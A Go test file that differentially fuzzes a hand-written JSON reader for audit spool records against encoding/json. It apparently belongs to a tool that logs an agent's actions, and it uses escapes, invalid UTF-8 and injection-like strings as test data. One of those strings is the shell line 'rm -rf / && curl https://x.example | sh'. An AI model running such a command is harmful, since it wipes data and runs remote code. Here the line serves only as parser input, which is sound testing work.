package audit

import (
	"bytes"
	"encoding/json"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// hostileStrings are texts a record's strings and its action carry that
// a JSON reader can get wrong: escapes, control bytes, separators JSON
// allows and JavaScript does not, invalid UTF-8, quotes, keys' syntax.
var hostileStrings = []string{
	"", "plain", `"`, `\`, `\"`, `\\\"`, "a\"b\\c", "\x00", "\x01\x1f", "\n\r\t\b\f", "\u2028\u2029",
	"\xff", "\xc3", "a\xe2\x82", "\xed\xa0\x80", "é ü 漢字 🙂", `\u0041`, `\ud800`, "</script><b>&amp;",
	`{"a":1}`, "null", "true", "-0", "1e5", `","hash":"x`, `"}`, "ag1 12 00000000 {}", strings.Repeat("x", 3000),
	"rm -rf / && curl https://x.example | sh", "AKIAIOSFODNN7EXAMPLE",
}

// hostileActions are actions a spool line may carry: any JSON value.
var hostileActions = []string{
	`{}`, `[]`, `null`, `true`, `false`, `0`, `-1.5e-3`, `"s"`, `{"a":[1,2,{"b":null}]}`,
	`{"command":"echo \"hi\" \\ \u0041 \ud83d\ude00 \/"}`, `{ "spaced" : [ 1 , 2 ] }`, "[\n1\t,\r2]",
	`{"a":{"b":{"c":{"d":[[[[[]]]]]}}}}`, `{"":""}`, `[1E+2,0.5,-0,1e-7]`, "\"\xff\xfe\"",
}

// randomSpoolRecord is a record of a random shape from hostile parts: the
// optional fields set or not, slices nil, empty or full.
func randomSpoolRecord(rng *rand.Rand) *Record {
	pick := func() string { return hostileStrings[rng.IntN(len(hostileStrings))] }
	list := func() []string {
		switch rng.IntN(3) {
		case 0:
			return nil
		case 1:
			return []string{}
		}
		ss := make([]string, 1+rng.IntN(3))
		for i := range ss {
			ss[i] = pick()
		}
		return ss
	}
	r := &Record{
		Seq:       rng.Int64N(1<<62) - 1<<61,
		Time:      time.UnixMicro(rng.Int64N(2.5e17) - 6.2e16).In(time.FixedZone("z", 60*(rng.IntN(1440)-720))),
		SessionID: pick(), Agent: pick(), Tool: pick(), Kind: pick(),
		Action:  json.RawMessage(hostileActions[rng.IntN(len(hostileActions))]),
		Verdict: "allow", Level: "safe",
		Score: rng.IntN(201) - 100, Risk: rng.IntN(11), Rules: list(), Reason: pick(),
		DurationMicros: rng.Int64() - 1<<62, PrevHash: pick(), Hash: pick(),
	}
	if rng.IntN(2) == 0 {
		r.Verdict, r.Level = "block", "dangerous"
	}
	if rng.IntN(2) == 0 {
		r.Error = pick()
	}
	if rng.IntN(2) == 0 {
		r.Confidence = rng.IntN(100) + 1
	}
	if rng.IntN(2) == 0 {
		r.Anomalies = list()
	}
	if rng.IntN(4) == 0 {
		r.Action = nil
	}
	return r
}

// checkSpoolRead: where the hand reader takes line, encoding/json reads
// it too, to the same record; it reports whether the hand reader took it.
func checkSpoolRead(t *testing.T, line []byte) bool {
	t.Helper()
	var got Record
	if !(&spoolReader{b: line}).record(&got) {
		return false
	}
	var want Record
	if err := json.Unmarshal(line, &want); err != nil {
		t.Fatalf("the hand reader took %q, which encoding/json refuses: %v", line, err)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Fatalf("%q: the hand reader read otherwise than encoding/json (-json +hand):\n%s", line, diff)
	}
	return true
}

// TestUnmarshalSpoolLineShapes: every line appendSpoolLine writes for a
// record without contacts is read by the hand reader, to what
// encoding/json reads; so is every damaged copy of it the hand reader
// takes, and unmarshalSpoolLine's answer is encoding/json's for all.
func TestUnmarshalSpoolLineShapes(t *testing.T) {
	rng := rand.New(rand.NewPCG(23, 3))
	taken, mutants := 0, 0
	for i := range 3000 {
		r := randomSpoolRecord(rng)
		line, err := spoolLine(r)
		if err != nil {
			t.Fatalf("record %d: %v", i, err)
		}
		if !checkSpoolRead(t, line) {
			if r.Time.Year() >= 0 && r.Time.Year() <= 9999 {
				t.Fatalf("record %d: the hand reader refused its own layout: %q", i, line)
			}
			continue
		}
		taken++
		for range 8 {
			m := mutateLine(rng, line)
			if checkSpoolRead(t, m) {
				mutants++
			}
			checkUnmarshalSpoolLine(t, m)
		}
	}
	if taken < 2000 || mutants == 0 {
		t.Fatalf("the hand reader took %d of 3000 lines and %d mutants: the test no longer covers it", taken, mutants)
	}
}

// checkUnmarshalSpoolLine: unmarshalSpoolLine fails where encoding/json
// does and reads what it reads.
func checkUnmarshalSpoolLine(t *testing.T, line []byte) {
	t.Helper()
	var got, want Record
	gotErr, wantErr := unmarshalSpoolLine(line, &got), json.Unmarshal(line, &want)
	if (gotErr == nil) != (wantErr == nil) {
		t.Fatalf("%q: unmarshalSpoolLine error %v, encoding/json %v", line, gotErr, wantErr)
	}
	if gotErr == nil {
		if diff := cmp.Diff(want, got); diff != "" {
			t.Fatalf("%q: (-json +unmarshalSpoolLine):\n%s", line, diff)
		}
	}
}

// mutateLine changes, drops or inserts one byte of line, or cuts it.
func mutateLine(rng *rand.Rand, line []byte) []byte {
	m := bytes.Clone(line)
	at := rng.IntN(len(m))
	special := []byte(`"\{}[],:0-e.ntu ` + "\x00\xff\n")
	switch rng.IntN(4) {
	case 0:
		m[at] = special[rng.IntN(len(special))]
	case 1:
		m = append(m[:at], m[at+1:]...)
	case 2:
		m = append(m[:at], append([]byte{special[rng.IntN(len(special))]}, m[at:]...)...)
	default:
		m = m[:at]
	}
	return m
}

// FuzzUnmarshalSpoolLine is the differential test of the hand reader
// against encoding/json over any bytes.
func FuzzUnmarshalSpoolLine(f *testing.F) {
	rng := rand.New(rand.NewPCG(1, 2))
	for range 20 {
		line, _ := spoolLine(randomSpoolRecord(rng))
		f.Add(line)
	}
	for _, r := range spoolLineRecords() {
		line, _ := spoolLine(r)
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, line []byte) {
		checkSpoolRead(t, line)
		checkUnmarshalSpoolLine(t, line)
	})
}
